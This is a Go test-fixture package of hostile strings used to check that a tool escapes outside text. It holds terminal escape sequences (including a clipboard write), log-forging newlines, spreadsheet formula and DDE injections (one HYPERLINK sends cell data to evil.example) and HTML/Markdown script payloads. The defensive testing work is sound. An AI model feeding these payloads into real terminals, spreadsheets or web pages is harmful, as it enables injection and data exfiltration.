// Package hostile holds strings a hostile server, agent or recording could
// send, for tests that feed them through every place latscope shows
// outside text (a server's error body, a model or agent name, a session
// name) and check that none arrives raw: in a terminal, a report, a CSV
// file or a log.
//
// Each terminal case carries the word "HACKED" outside its control
// sequence's payload where it can, so a test can also check the visible
// text survived, escaped.
package hostile

import "strings"

// A Case is one hostile string.
type Case struct {
	// Name says what the string tries: "osc-title-bel".
	Name string
	// Text is the string as a hostile party sends it.
	Text string
	// Raw is the part that must never reach an output unchanged. It holds
	// the word HACKED where the sequence allows, so that it cannot match
	// the control sequences an output has of its own (the dashboard's
	// colours and cursor moves).
	Raw string
}

// Terminal are strings a terminal would act on if shown raw.
// textsafe.Terminal leaves no Raw in its output.
var Terminal = []Case{
	{"osc-title-bel", "\x1b]0;HACKED\x07", "\x1b]0;HACKED"},
	{"osc-title-st", "\x1b]2;HACKED\x1b\\", "\x1b]2;HACKED"},
	{"osc-clipboard", "\x1b]52;c;SEFDS0VECg==\x07", "\x1b]52;c;SEFDS0VE"},
	{"osc-hyperlink", "\x1b]8;;http://evil.example/\x1b\\HACKED\x1b]8;;\x1b\\", "\x1b]8;;http://evil.example/"},
	{"csi-clear", "\x1b[2J\x1b[HHACKED", "\x1b[HHACKED"},
	{"csi-colour", "\x1b[31mHACKED\x1b[0m", "\x1b[31mHACKED"},
	{"csi-erase-line-up", "\x1b[1A\x1b[2KHACKED", "\x1b[2KHACKED"},
	{"dcs-tmux-passthrough", "\x1bPtmux;\x1b\x1b]0;HACKED\x07\x1b\\", "\x1bPtmux;"},
	{"dcs-xtgettcap", "\x1bP+q544e\x1b\\HACKED", "\x1bP+q544e"},
	{"bel", "HACKED\x07\x07", "HACKED\x07"},
	{"cr-overwrite", "request failed\rHACKED: all fine", "\rHACKED"},
	{"backspace-overwrite", "failedHACKED\b\b\b\b\b\bfine!!", "HACKED\b"},
	{"nul", "HACKED\x00tail", "HACKED\x00"},
	{"del", "HACKED\x7f", "HACKED\x7f"},
	{"c1-csi-utf8", "\u009b31mHACKED", "\u009b31mHACKED"},
	{"c1-osc-utf8", "\u009d0;HACKED\u009c", "\u009d0;HACKED"},
	{"c1-csi-raw-byte", "\x9b31mHACKED", "\x9b31mHACKED"},
	{"c1-osc-raw-byte", "\x9d0;HACKED\x9c", "\x9d0;HACKED"},
	{"overlong-esc", "\xc0\x9b[2JHACKED", "\xc0\x9b[2JHACKED"},
	{"invalid-utf8", "HACKED\xff\xfe", "HACKED\xff"},
	{"bidi-override", "\u202eDEKCAH", "\u202eDEKCAH"},
	{"bidi-isolate", "\u2066HACKED\u2069", "\u2066HACKED"},
}

// Lines are strings that start a line of their own inside a field that
// must stay on one line (a name, a header value): they forge a status line
// or a log entry, or shift a table's columns. textsafe.Line leaves no Raw
// in its output.
var Lines = []Case{
	{"newline-forged-status", "model\nlatscope: all requests ok HACKED", "\nlatscope: all requests ok HACKED"},
	{"crlf-forged-status", "model\r\nlatscope: HACKED", "\r\nlatscope: HACKED"},
	{"tab-column-shift", "name\tHACKED", "\tHACKED"},
	{"line-separator", "name\u2028HACKED", "\u2028HACKED"},
	{"paragraph-separator", "name\u2029HACKED", "\u2029HACKED"},
}

// Formulas are CSV cells a spreadsheet would run as formulas; Raw is the
// formula. A cell is safe when textsafe.CSVCell leaves it unchanged (it is
// idempotent), so a test reads a CSV output back with encoding/csv and
// checks every cell that way; a substring check cannot tell "'=1+1" (text)
// from "=1+1".
var Formulas = []Case{
	{"csv-equals", `=HYPERLINK("http://evil.example/?"&A1,"HACKED")`, "=HYPERLINK"},
	{"csv-plus-dde", "+cmd|' /C calc'!A0", "+cmd"},
	{"csv-minus", "-2+3+cmd|' /C calc'!A0", "-2+3"},
	{"csv-at", "@SUM(1+1)*cmd|' /C calc'!A0", "@SUM"},
	{"csv-tab", "\t=1+1", "\t=1+1"},
	{"csv-cr", "\r=1+1", "\r=1+1"},
	{"csv-leading-space", "  =1+1", "=1+1"},
	{"csv-after-semicolon", "ok;=1+1", "=1+1"},
	{"csv-fullwidth", "＝1+1", "＝1+1"},
}

// Markup are strings that would turn into markup in a report if written
// raw. Raw is what must not appear in the output of the format the name
// starts with: html- cases in an HTML report (where html/template writes
// "&lt;script&gt;"), md- cases in a Markdown one (where "\\<script>" is
// literal text, so html- cases do not apply).
var Markup = []Case{
	{"html-script", "<script>alert('HACKED')</script>", "<script>"},
	{"html-img", `<img src=x onerror="alert('HACKED')">`, "<img"},
	{"md-table-pipe", "a | HACKED | b", "a | HACKED"},
	{"md-link", "[HACKED](javascript:alert(1))", "[HACKED]("},
}

// Word is the visible word the cases carry.
const Word = "HACKED"

// All returns every case, the terminal ones first.
func All() []Case {
	out := make([]Case, 0, len(Terminal)+len(Lines)+len(Formulas)+len(Markup))
	out = append(out, Terminal...)
	out = append(out, Lines...)
	out = append(out, Formulas...)
	return append(out, Markup...)
}

// Joined returns the Text of every terminal and line case in one string,
// separated by spaces, for a field that takes one value (a server's error
// body, an agent's name).
func Joined() string {
	parts := make([]string, 0, len(Terminal)+len(Lines))
	for _, c := range Terminal {
		parts = append(parts, c.Text)
	}
	for _, c := range Lines {
		parts = append(parts, c.Text)
	}
	return strings.Join(parts, " ")
}

// Leaks returns the names of the cases in cases whose Raw appears in out.
// It suits an output that holds control sequences of its own (the
// dashboard's colours): only the hostile sequences count. For an output
// that must hold no control character at all, textsafe.IndexUnsafe is the
// stricter check.
func Leaks(out string, cases []Case) []string {
	var names []string
	for _, c := range cases {
		if strings.Contains(out, c.Raw) {
			names = append(names, c.Name)
		}
	}
	return names
}
